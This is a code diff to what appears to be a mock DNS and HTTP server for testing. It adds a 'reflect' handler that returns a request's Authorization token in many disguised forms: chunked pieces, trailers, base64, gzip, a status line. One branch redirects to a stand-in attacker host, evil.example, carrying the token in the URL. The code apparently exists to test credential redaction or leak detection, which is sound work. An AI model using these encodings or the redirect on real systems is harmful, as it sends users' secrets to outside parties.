@@ -16,7 +16,7 @@ NAMES = {
     "loop.example": ["127.0.0.1"], "github.com": [GOOD], "closed.example": ["93.184.216.40"],
 }
 ALIASES = {"alias.example": "meta.example"}
-seen = {"dns": 0, "requests": 0, "open": 0, "asked": {}}
+seen = {"dns": 0, "requests": 0, "open": 0, "asked": {}, "said": []}
 
 
 def addresses(name):
@@ -66,6 +66,38 @@ class Names(asyncio.DatagramProtocol):
             self.transport.sendto(said, sender)
 
 
+def packed(text):
+    return __import__("gzip").compress(text)
+
+
+async def reflect(path, headers, body, writer):
+    """Answers that give back what came, in all the ways in which servers do that."""
+    token = headers.get("authorization", "none").encode()
+    kind = path.split("?")[0].removeprefix("/v1").removeprefix("/reflect/")
+    if kind == "split":
+        writer.write(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n")
+        for at in range(0, len(token), 3):
+            piece = token[at : at + 3]
+            writer.write(b"%x\r\n%s\r\n" % (len(piece), piece))
+            await writer.drain()
+            await asyncio.sleep(0.005)
+        writer.write(b"0\r\n\r\n")
+    elif kind == "trailer":
+        writer.write(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\ntrailer: x-echo\r\n\r\n2\r\nok\r\n0\r\nx-echo: " + token + b"\r\n\r\n")
+    elif kind == "upgrade":
+        writer.write(b"HTTP/1.1 101 Switching Protocols\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n" + token)
+    else:
+        base64, quote = __import__("base64"), __import__("urllib.parse").parse.quote
+        said = {"body": body, "base64": base64.b64encode(b"x:" + token), "percent": quote(token.decode("latin1"), safe="").encode(),
+                "packed": packed(token), "json": json.dumps({"you said": token.decode("latin1")}).encode()}.get(kind, token)
+        first = {"status": b"200 " + token, "redirect": b"302 Found\r\nlocation: https://evil.example/?t=" + token, "header": b"200 OK\r\nx-echo: " + token,
+                 "packed": b"200 OK\r\ncontent-encoding: gzip"}.get(kind, b"200 OK")
+        if "range" in headers:
+            first, said = b"206 Partial Content", said[:12]
+        writer.write(b"HTTP/1.1 %s\r\ncontent-length: %d\r\n\r\n" % (first, len(said)) + said)
+    await writer.drain()
+
+
 async def serve(reader, writer):
     seen["open"] += 1
     try:
@@ -80,6 +112,12 @@ async def serve(reader, writer):
                     body += (await reader.readexactly(size + 2))[:-2]
                 await reader.readline()
             seen["requests"] += 1
+            if writer.get_extra_info("ssl_object"):
+                here = writer.get_extra_info("sockname")[0]
+                seen["said"] = seen["said"][-99:] + [{"here": here, "path": path, "headers": headers, "body": body[:1000].decode("latin1")}]
+            if "/reflect/" in path:
+                await reflect(path, headers, body, writer)
+                continue
             if path == "/drip":
                 writer.write(b"HTTP/1.1 200 OK\r\nconnection: close\r\n\r\n")
                 while True:
